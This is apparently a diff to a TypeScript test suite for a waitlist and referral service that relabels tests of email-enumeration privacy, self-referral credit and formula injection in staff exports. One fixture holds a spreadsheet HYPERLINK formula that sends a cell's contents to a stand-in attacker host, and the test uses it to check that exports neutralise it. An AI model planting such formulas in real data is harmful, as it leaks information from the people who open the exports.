@@ -349,7 +349,7 @@ describe('referral credits', () => {
   });
 });
 
-// Issue 17 ------------------------------------------------------------------------------------
+// Waitlist privacy and referral honesty (decision 0031) --------------------------------------
 
 const launch = (body: Record<string, unknown>) =>
   call(notifyLaunch, jsonRequest(API.notifyLaunch, { name: 'Visitor', source: 'spiritual_quiz', ...body }));
@@ -362,7 +362,7 @@ async function freshEmailStrings() {
   await emailStrings(getDb());
 }
 
-describe('a listed email and a new one get the same answer after the same work (issue 17)', () => {
+describe('a listed email and a new one get the same answer after the same work (decision 0031)', () => {
   const cases = [
     ['POST /api/waitlist', (email: string, ref?: string) => post({ email, ...(ref ? { ref } : {}) })],
     // from a page in another language: the record's language is part of the owner's update (decision 0050)
@@ -435,7 +435,7 @@ describe('a listed email and a new one get the same answer after the same work (
   });
 });
 
-describe('self-referral and duplicates up to the normalised email or phone (issue 17)', () => {
+describe('self-referral and duplicates up to the normalised email or phone (decision 0031)', () => {
   it.each(SELF_REFERRAL_VARIANTS)('the red team variant "$label" earns no credit', async (variant) => {
     const referrer = await launch({ email: REFERRER.email, phoneNumber: REFERRER.phone });
     await confirmByEmail(REFERRER.email, referrer.body.ownerToken);
@@ -490,7 +490,7 @@ describe('self-referral and duplicates up to the normalised email or phone (issu
   });
 });
 
-describe('Growth Funnel referral conversions come from stored referrals, not the beacon (issue 17)', () => {
+describe('Growth Funnel referral conversions come from stored referrals, not the beacon (decision 0031)', () => {
   const BROWSER_UA =
     'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36';
   const conversions = async (cookie: string) => {
@@ -584,7 +584,7 @@ describe('Growth Funnel referral conversions come from stored referrals, not the
   });
 });
 
-describe('a formula planted through the notify-launch name is text in every staff export (issue 17)', () => {
+describe('a formula planted through the notify-launch name is text in every staff export (decision 0031)', () => {
   const PLANTED = 'x;=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
 
   it('no cell of any export starts a formula, even where a spreadsheet splits at ; , tab or a line break', async () => {
